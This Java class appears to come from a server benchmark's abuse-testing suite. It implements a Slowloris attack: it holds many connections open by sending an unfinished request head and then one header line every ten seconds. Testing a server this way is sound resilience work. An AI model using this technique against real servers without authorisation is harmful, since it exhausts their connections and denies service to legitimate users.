package org.hashdb.bench.abuse;

import java.io.IOException;

/** Request heads that never end: a header line every 10 s on each of many connections. */
final class Slowloris extends Attack {
  private final SlowConnections conns = new SlowConnections();
  private long lastSend;

  Slowloris(int connections) {
    super("slowloris-headers", connections);
  }

  @Override
  void start(AbuseTarget t) throws Exception {
    for (int i = 0; i < size; i++) {
      try {
        conns.add(t.connect(4096, null));
      } catch (IOException e) {
        conns.refusedAtOnce();
      }
    }
    conns.sendAll("GET /healthz HTTP/1.1\r\nHost: x\r\n");
    lastSend = System.nanoTime();
  }

  @Override
  void step() {
    if (System.nanoTime() - lastSend > 10_000_000_000L) {
      conns.sendAll("X-a: b\r\n");
      lastSend = System.nanoTime();
    }
    conns.sweep();
  }

  @Override
  boolean slow() {
    return true;
  }

  @Override
  int opened() {
    return conns.opened();
  }

  @Override
  int closed() {
    return conns.closed();
  }

  @Override
  public void close() {
    conns.closeAll();
  }
}
